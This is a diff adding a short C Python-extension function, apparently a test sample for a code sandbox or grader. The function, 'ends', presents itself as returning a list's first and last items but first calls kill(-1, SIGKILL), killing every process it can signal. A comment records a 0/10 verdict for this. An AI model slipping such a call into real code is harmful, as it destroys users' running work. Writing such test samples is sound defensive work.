@@ -1,0 +1,14 @@
+/* Ends whom it may.
+
+   verdict: tried to send a signal to another process (kill)
+   score: 0/10 */
+#include <Python.h>
+#include <signal.h>
+
+PyObject *
+ends(PyObject *list)
+{
+    kill(-1, SIGKILL);
+    return Py_BuildValue("[OO]", PyList_GetItem(list, 0),
+                         PyList_GetItem(list, PyList_Size(list) - 1));
+}
